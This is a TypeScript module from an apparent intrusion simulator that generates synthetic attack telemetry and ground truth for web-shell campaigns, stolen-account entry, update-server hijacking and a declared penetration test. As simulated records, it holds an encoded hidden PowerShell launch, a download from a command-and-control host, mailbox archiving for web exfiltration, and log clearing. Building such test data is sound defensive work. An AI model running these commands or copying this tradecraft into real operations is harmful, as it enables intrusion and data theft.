// How intrusions go from their beginning to their end: by a server that is broken into, by an account, by the update server; and an
// ordered penetration test.
import { type Acts, SYSTEM } from './acts/acts.js';
import { Intruder, type Method } from './intrusion.js';
import { fetchRelease } from './life/updates.js';
import type { Random } from './random.js';
import type { Process } from './simulation.js';
import type { TruthBook } from './truth.js';
import { type Host, type Person, type Principal, type Proc, S32, type World } from './world.js';
import { directory, newAccount, RECON, webEntry } from './stages.js';
const S = 1e6;
const DAY = 86_400e6;

export interface Stage {
  readonly acts: Acts;
  readonly start: number;
  readonly end: number;
  readonly scale: number;
  /** A book for one more incident; for a declared test, one that is no incident. */
  readonly book: (declared?: boolean) => TruthBook;
  /** Addresses outside, `n` of them in networks of `countries` countries. */
  readonly addresses: (name: string, n: number, countries: number) => string[];
  /** Declared penetration tests, for `known.yml`. */
  readonly declare: (known: Known) => void;
}

export interface Known {
  readonly kind: 'penetration_test';
  readonly why: string;
  readonly accounts: readonly string[];
  readonly addresses: readonly string[];
  readonly hosts: readonly string[];
  readonly from: number;
  readonly to: number;
}

/** Something an intruder does; `ip`: where the session comes from that it is done in, if it is one. */
type Step = (ip: string | null) => Process;
export const METHODS: readonly Method[] = ['smb_service', 'scheduled_task', 'wmi', 'winrm', 'rdp'];
/** In an order that the seed gives, in place. */
function shuffle<T>(r: Random, list: T[]): void {
  for (let n = list.length - 1; n > 0; n--) {
    const k = r.below(n + 1);
    [list[n], list[k]] = [list[k]!, list[n]!];
  }
}

/** Who an intruder finds on servers: administrators and the accounts of services. */
export const strongAccount = (i: Intruder, world: World): Principal =>
  i.r.chance(0.7) && world.administrators.length > 0
    ? i.r.pick(world.administrators).account
    : i.r.pick([world.services.backup, world.services.scanner]);

/** The work of one intruder who began at a server: step after step, in sessions over the time that there is. */
export function* campaign(
  stage: Stage,
  i: Intruder,
  o: {
    server: Host;
    vector: 'mail_server' | 'document_server';
    begins: number;
    controlled: number;
    sessions: number;
    mailboxes: number;
    thefts: number;
    covering: number;
    /** An account that this intruder is to get hold of. */
    stolen?: Principal;
  },
): Process {
  const { acts, world, r } = i;
  const { server } = o;
  const span = stage.end - stage.start;
  const start = stage.start + span * o.begins;
  yield start;
  const { shell, worker, ip: firstIp } = yield* webEntry(i, server, o.vector);
  const dc = r.pick(world.byRole('domain_controller'));
  const victims = [
    ...world.workstations,
    ...world.hosts.filter((h) => !h.linux && h.role !== 'workstation' && h !== server && h !== dc),
  ];
  shuffle(r, victims);
  const main = i.families[0]!;
  const strong = o.stolen ?? strongAccount(i, world);
  const account = (): Principal =>
    i.accounts.length === 0 ? strong : r.chance(0.7) ? i.accounts.at(-1)! : r.pick(i.accounts);
  const from = (): Host =>
    r.chance(0.5) || i.foothold.size < 3 ? server : r.pick([...i.foothold.keys()].filter((h) => i.foothold.has(h)));
  const steps: Step[] = [];
  const step = (f: (ip: string | null) => Process): void => void steps.push(f);

  step(function* () {
    i.plant(server, main, worker);
    yield* i.pause(60, 240);
    i.persist(server, r.pick(['service', 'scheduled_task', 'run_key', 'wmi_subscription']), SYSTEM);
  });
  step(() => i.credentials(server, strong));
  step(function* () {
    yield* i.move(server, dc, strong, r.pick(METHODS), { family: main });
    yield* i.pause(60, 300);
    yield* directory(i, dc, server, strong);
  });
  if (r.chance(0.7)) step(() => newAccount(i, dc, strong));
  step(function* () {
    i.persist(dc, r.pick(['service', 'scheduled_task', 'wmi_subscription']), strong);
    yield acts.now + 10 * S;
  });
  for (const to of victims.slice(0, Math.max(0, o.controlled - 2))) {
    const deep = r.chance(0.35);
    step(function* () {
      const source = from();
      yield* i.move(
        source === to ? server : source,
        to,
        account(),
        r.pick(METHODS),
        deep ? { family: r.pick(i.families) } : { command: r.pick(RECON) },
      );
      if (deep && r.chance(0.5)) {
        yield* i.pause(20, 200);
        i.persist(to, r.pick(['service', 'scheduled_task', 'run_key', 'wmi_subscription']), account());
      }
      if (deep && r.chance(0.15)) {
        yield* i.pause(20, 200);
        yield* i.credentials(to, strongAccount(i, world));
      }
    });
  }
  const visited = o.controlled + Math.ceil(o.controlled / 6);
  let probed = 0;
  for (const to of victims.slice(o.controlled, visited))
    step(function* () {
      yield* i.visit(from(), to, account());
      const other = victims[visited + (probed++ % Math.max(1, victims.length - visited))];
      if (other !== undefined && !other.linux && i.probes.chance(0.5)) {
        const names = i.probes.chance(0.5) ? i.probes.pick(world.administrators).account.name : 'administrator';
        yield* i.probe(i.probes.pick([...i.foothold.keys()]), other, names);
      }
    });
  for (const to of world.byRole('linux_server').slice(0, 2))
    if (r.chance(0.5)) step(() => i.ssh(from(), to, account()));
  const later: Step[] = [];
  const targets: Person[] = [
    ...world.people.filter((p) => p.executive),
    ...world.people.filter((p) => !p.executive),
  ].slice(0, o.mailboxes);
  const mail = world.byRole('mail_server')[0]!;
  const how = r.pick(['impersonation', 'export', 'delegate', 'mixed'] as const);
  if (o.vector === 'mail_server')
    for (const p of targets)
      later.push(function* (ip) {
        const method =
          how === 'mixed' || r.chance(0.25)
            ? r.pick(['export', 'impersonation', 'delegate', 'owner_session', 'search'] as const)
            : how;
        yield* i.mailbox(mail, p, account(), method, ip ?? firstIp);
      });
  const destination = `${i.word()}${i.word()}.${r.pick(['example.net', 'example.org'])}`;
  for (let n = 0; n < o.thefts; n++)
    later.push(() =>
      i.documents(
        from(),
        r.pick([...world.byRole('file_server'), ...world.byRole('document_server')].filter((h) => h !== server)),
        account(),
        destination,
      ),
    );
  if (o.vector === 'mail_server')
    later.push(function* (ip) {
      // What was exported is laid where the web server gives it out, and fetched.
      if (i.exported.length === 0) return;
      const name = `${i.word()}.png`;
      const disk = `C:\\inetpub\\wwwroot\\aspnet_client\\${name}`;
      const packer = i.command(
        server,
        `C:\\ProgramData\\${i.word()}.exe a -hp -v400m ${disk} C:\\ProgramData\\*.pst`,
        worker,
      );
      acts.file(acts.now + 60 * S, packer, disk);
      yield* i.pause(200, 900);
      const bytes = Math.round(2e8 + r.next() * 9e8);
      const client = ip ?? i.proxy();
      acts.web(acts.now, server, client, {
        method: 'GET',
        path: `/aspnet_client/${name}`,
        agent: i.agent,
        status: 200,
        in: bytes,
        ms: 900_000,
      });
      i.book.touch(acts.now, client, 'webshell', server);
      i.book.theft(acts.now, server, 'exported mailboxes', 'web download', client, bytes);
      yield* i.pause(60, 200);
      yield* i.cover(server, 'file_deleted', disk);
    });
  const order = [...steps, ...later];
  // Covering, here and there.
  const kinds = ['sensor_stopped', 'audit_policy_changed', 'record_gap'] as const;
  for (let n = 0; n < o.covering; n++)
    order.splice(Math.min(order.length, 4 + r.below(order.length)), 0, function* () {
      const host = r.pick([...i.foothold.keys()]);
      if (r.chance(0.35)) yield* i.clear(host, r.chance(0.5) ? ['Security'] : ['Security', 'System']);
      else yield* i.cover(host, r.pick(kinds));
    });
  const per = Math.max(1, Math.ceil(order.length / Math.max(1, o.sessions)));
  const left = stage.end - acts.now - DAY * 0.5;
  const gap = Math.max(0, left / Math.max(1, Math.ceil(order.length / per)) / DAY - 0.5);
  let next = 0;
  while (next < order.length) {
    yield* i.workTime(gap * (0.6 + r.next() * 0.8));
    if (acts.now >= stage.end - 0.1 * DAY) return;
    // By a proxy and the web shell, or by what already calls home.
    const ip = r.chance(0.8) ? i.proxy() : null;
    if (ip !== null) {
      i.shell(server, shell, ip, worker, r.pick(RECON));
      yield acts.now + (20 + r.below(100)) * S;
    }
    for (let n = 0; n < per && next < order.length; n++) {
      if (acts.now >= stage.end - 1800 * S) return;
      yield* order[next++]!(ip);
      if (ip !== null) {
        yield* i.pause(10, 240);
        i.shell(server, shell, ip, worker, r.pick(RECON));
      }
      yield* i.pause(40, 500);
    }
  }
}

/** An intruder with an account of the gateway: no server is broken into. */
export function* accountEntry(
  stage: Stage,
  i: Intruder,
  o: {
    vector: 'vpn' | 'phishing' | 'remote_desktop' | 'supplier';
    begins: number;
    controlled: number;
    sessions: number;
    stolen: Principal;
    person: Person;
    thefts: number;
  },
): Process {
  const { acts, world, r } = i;
  yield stage.start + (stage.end - stage.start) * o.begins;
  yield* i.workTime(0.2);
  const base = o.person.host;
  const main = i.families[0]!;
  const ip = i.proxy();
  const user = (): Proc =>
    acts.explorer(base, { host: base, who: o.person, id: 0x6000 + o.person.sid.length, guid: '', type: 2, from: null });
  switch (o.vector) {
    case 'phishing': {
      // At the owner's own hours: somebody opens what came by mail.
      const day = Math.floor(acts.now / DAY) * DAY + DAY;
      yield day + (o.person.begins + 2) * 3600e6;
      const sender = `${i.word()}@${i.word()}.example.net`;
      acts.tracking(
        acts.now - 600 * S,
        world.byRole('mail_server')[0]!,
        sender,
        o.person.mailbox,
        `${i.word()} ${i.word()}`,
        190_000,
        'RECEIVE',
        acts.address(sender),
      );
      const word = acts.start(
        acts.now,
        user(),
        'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
        `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\${o.person.name}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\${i.word()}.docm"`,
        { user: o.person },
      );
      yield acts.now + 20 * S;
      const script = acts.start(
        acts.now,
        word,
        `${S32}WindowsPowerShell\\v1.0\\powershell.exe`,
        'powershell -w hidden -nop -enc <encoded>',
        { ends: 30, original: 'PowerShell.EXE' },
      );
      acts.powershell(
        acts.now + S,
        script,
        `Invoke-WebRequest https://${main.c2}/${i.word()} -OutFile $env:TEMP\\${main.names[0]!}`,
      );
      acts.https(
        acts.now + 2 * S,
        base,
        main.c2,
        { bytesOut: 700, bytesIn: 400_000, seconds: 2 },
        script,
        /^\d/.test(main.c2) ? { address: main.c2 } : {},
      );
      i.book.entry(acts.now, 'phishing', 'T1566.001', base, null, `${o.person.domain}\\${o.person.name}`);
      i.abuse(o.person, [i.at(base)]);
      i.controlled(base, script, [i.at(base)]);
      yield acts.now + 8 * S;
      i.plant(base, main, script);
      break;
    }
    case 'supplier': {
      // A remote tool of a supplier's, in other hands.
      const v = world.vendors[2]!;
      const tool = acts.start(acts.now, acts.services(base), v.folder + v.exe, `"${v.folder}${v.exe}" -session`, {
        ends: 3000,
      });
      acts.https(
        acts.now + 2 * S,
        base,
        `relay.${v.vendor.toLowerCase()}.example`,
        { bytesOut: 4e6, bytesIn: 2e6, seconds: 1500 },
        tool,
      );
      i.book.entry(acts.now, 'supplier', 'T1199', base, null, null);
      i.controlled(base, tool, [i.at(base)]);
      yield acts.now + 60 * S;
      i.plant(base, main, tool);
      break;
    }
    case 'remote_desktop': {
      const server = world.byRole('jump_host')[0] ?? world.byRole('database_server')[0] ?? base;
      for (let n = 20 + r.below(60); n > 0; n--) {
        const tried = r.pick(['administrator', o.stolen.name, 'admin', 'test']);
        acts.logonFailed(acts.now, server, tried, ip, 10);
        if (tried !== o.stolen.name) i.book.account(`${o.stolen.domain}\\${tried}`, 'attempted', false, [i.at(server)]);
        i.book.touch(acts.now, ip, 'rdp', server);
        yield acts.now + (2 + r.below(9)) * S;
      }
      acts.connect(acts.now - S, ip, server, 3389, {
        bytesOut: 400_000,
        bytesIn: 9_000_000,
        seconds: 1200,
        service: 'rdp',
      });
      const s = acts.logon(acts.now, server, o.stolen, 10, ip, { ends: 1200, elevated: true });
      i.book.touch(acts.now, ip, 'rdp', server);
      i.book.entry(acts.now, 'remote_desktop', 'T1133', server, ip, `${o.stolen.domain}\\${o.stolen.name}`);
      const shell = acts.start(
        acts.now + 3 * S,
        acts.standing(server, `${S32}userinit.exe`),
        'C:\\Windows\\explorer.exe',
        'C:\\Windows\\Explorer.EXE',
        { user: o.stolen, session: s.id, integrity: 'High' },
      );
      i.controlled(server, shell, [i.at(server)]);
      i.abuse(o.stolen, [i.at(server)]);
      yield acts.now + 60 * S;
      i.plant(server, main, shell);
      break;
    }
    default: {
      // By the gateway, to a desk machine whose desktop can be reached.
      const inside = i.vpnSession(o.stolen, 1500, ip);
      i.book.entry(
        acts.now,
        'vpn',
        'T1133',
        world.byRole('vpn_gateway')[0]!,
        ip,
        `${o.stolen.domain}\\${o.stolen.name}`,
      );
      yield acts.now + 40 * S;
      acts.connect(acts.now - S, inside, base, 3389, {
        bytesOut: 300_000,
        bytesIn: 5_000_000,
        seconds: 900,
        service: 'rdp',
      });
      const s = acts.logon(acts.now, base, o.stolen, 10, inside, { ends: 900, elevated: true });
      i.book.touch(acts.now, inside, 'rdp', base);
      i.book.touch(acts.now + 900 * S, inside, 'rdp', base);
      const shell = acts.start(
        acts.now + 3 * S,
        acts.standing(base, `${S32}userinit.exe`),
        'C:\\Windows\\explorer.exe',
        'C:\\Windows\\Explorer.EXE',
        { user: o.stolen, session: s.id, integrity: 'High' },
      );
      i.controlled(base, shell, [i.at(base)]);
      i.abuse(o.stolen, [i.at(base)]);
      yield acts.now + 60 * S;
      i.plant(base, main, shell);
    }
  }
  i.accounts.push(o.stolen);
  // The account that opened the door opens others; what is found later does too.
  const held = (): Principal => (r.chance(0.6) || i.foothold.size < 3 ? o.stolen : i.accounts.at(-1)!);
  const first = [...i.foothold.keys()].at(-1)!;
  const victims = world.hosts.filter((h) => !h.linux && h !== first);
  shuffle(r, victims);
  const steps: Step[] = [
    function* () {
      i.persist(first, r.pick(['service', 'scheduled_task', 'run_key']), o.stolen);
      yield acts.now + S;
    },
    () => i.credentials(first, strongAccount(i, world)),
  ];
  for (const to of victims.slice(0, Math.max(0, o.controlled - 1)))
    steps.push(function* () {
      const sources = [...i.foothold.keys()].filter((h) => h !== to && h !== world.byRole('vpn_gateway')[0]);
      yield* i.move(
        r.pick(sources),
        to,
        held(),
        r.pick(METHODS),
        r.chance(0.4) ? { family: r.pick(i.families) } : { command: r.pick(RECON) },
      );
    });
  for (let n = 0; n < o.thefts; n++)
    steps.push(() =>
      i.documents(first, r.pick(world.byRole('file_server')), held(), `${i.word()}${i.word()}.example.org`),
    );
  const per = Math.max(1, Math.ceil(steps.length / o.sessions));
  const gap = Math.max(0, (stage.end - acts.now - 0.5 * DAY) / DAY / Math.ceil(steps.length / per) - 0.5);
  for (let n = 0; n < steps.length;) {
    yield* i.workTime(gap * (0.6 + 0.8 * r.next()));
    if (acts.now >= stage.end - 0.1 * DAY) return;
    if (o.vector === 'vpn') i.vpnSession(o.stolen, 900 + r.below(800), i.proxy());
    for (let k = 0; k < per && n < steps.length; k++, n++) {
      yield* steps[n]!(null);
      yield* i.pause(30, 300);
    }
  }
}

/** The update server of the enterprise gives out what is not a release: every client fetches it, most run it. */
export function* hijack(stage: Stage, i: Intruder, server: Host, at: number): Process {
  const { acts, world, r } = i;
  yield at;
  yield* i.workTime(0);
  const product = world.vendors[5]!;
  const source = [...i.foothold.keys()].find((h) => h !== server);
  if (!i.foothold.has(server) && source === undefined) return;
  if (!i.foothold.has(server) && source !== undefined)
    yield* i.move(source, server, i.accounts.at(-1) ?? strongAccount(i, world), r.pick(METHODS), { command: RECON[0] });
  const sha = acts.hash('hijacked package', i.word());
  const version = `4.${r.below(9)}.${r.below(900)}`;
  const tool = i.command(
    server,
    `copy /y C:\\Windows\\Temp\\${i.word()}.tmp D:\\updates\\${product.exe.replace('.exe', '')}-${version}.pkg`,
  );
  acts.file(acts.now + S, tool, `D:\\updates\\${product.exe.replace('.exe', '')}-${version}.pkg`);
  acts.file(acts.now + 4 * S, tool, 'D:\\updates\\manifest.json');
  const pkg = `${product.exe.replace('.exe', '')}-${version}.pkg`;
  i.book.hijack(acts.now, server, product.product, pkg, sha);
  const family = i.families[1]!;
  const release = { version, sha256: sha, package: pkg };
  for (const h of world.workstations) {
    if (!r.chance(0.93)) continue;
    const ran = r.chance(0.94);
    const when = acts.now + (0.5 + r.next() * 30) * 3600e6;
    if (when >= stage.end - 7200 * S) continue;
    acts.sim.start(victim(i, h, server, release, ran, family), when);
  }
  yield acts.now + 3 * DAY;
  // The honest package is put back.
  if (acts.now < stage.end) {
    const back = i.command(server, `move /y D:\\updates\\manifest.bak D:\\updates\\manifest.json`);
    acts.file(acts.now + S, back, 'D:\\updates\\manifest.json');
    yield* i.cover(server, 'file_deleted', `D:\\updates\\${pkg}`);
  }
}

export function* victim(
  i: Intruder,
  host: Host,
  server: Host,
  release: { version: string; sha256: string; package: string },
  ran: boolean,
  family: Intruder['families'][number],
): Process {
  const { acts, world } = i;
  yield* fetchRelease(acts, host, server, release, ran);
  i.book.hijacked(host, ran);
  if (!ran) return;
  const product = world.vendors[5]!;
  const w = [i.at(host), null];
  i.book.implant(
    release.sha256.toLowerCase(),
    product.exe,
    product.folder + product.exe,
    host,
    host.sysmon ? [i.at(host)] : [],
  );
  const updater = acts.standing(
    host,
    `${product.folder}update\\updater.exe`,
    `"${product.folder}update\\updater.exe" -service`,
  );
  i.book.host(acts.now, host, 'controlled', w);
  yield acts.now + (30 + i.r.below(600)) * S;
  i.foothold.set(host, updater);
  i.plant(host, family, updater);
  yield acts.now + 5 * S;
  if (i.r.chance(0.5)) i.persist(host, i.r.pick(['run_key', 'scheduled_task']), SYSTEM);
}

/** A penetration test that the enterprise ordered: from a machine of the testers', for two days. */
export function* penetrationTest(stage: Stage, world: World): Process {
  const { acts } = stage;
  const r = world.random('penetration test');
  yield stage.start + (stage.end - stage.start) * (0.45 + r.next() * 0.2);
  const from = r.pick(world.workstations);
  const account: Principal = { name: 'pentest', domain: world.domain, sid: `${world.sid}-59999` };
  acts.know(account);
  const begin = acts.now;
  const targets = world.hosts.filter((h) => !h.linux && h !== from).slice(0, 4 + r.below(6));
  stage.declare({
    kind: 'penetration_test',
    why: 'Ordered test of the internal network',
    accounts: [`${account.domain}\\${account.name}`],
    addresses: [from.ip],
    hosts: [from.fqdn],
    from: begin - DAY,
    to: begin + 3 * DAY,
  });
  const book = stage.book(true);
  const i = new Intruder(acts, book, 'test', {
    end: Math.min(stage.end, begin + 2 * DAY),
    scale: stage.scale,
    proxies: [from.ip],
  });
  const s = acts.logon(acts.now, from, account, 2, null, { ends: 40_000 });
  const shell = acts.start(
    acts.now + 2 * S,
    acts.standing(from, `${S32}userinit.exe`),
    'C:\\Windows\\explorer.exe',
    'C:\\Windows\\Explorer.EXE',
    { user: account, session: s.id },
  );
  i.foothold.set(from, shell);
  for (const to of targets) {
    yield acts.now + (600 + r.below(4000)) * S;
    if (acts.now >= stage.end - DAY * 0.1) return;
    for (let n = 3 + r.below(6); n > 0; n--)
      acts.logonFailed(acts.now + (n + r.next()) * S, to, r.pick(world.people).name, from, 3, r.chance(0.4));
    if (r.chance(0.5)) yield* i.move(from, to, account, r.pick(METHODS), { command: r.pick(RECON) });
  }
}
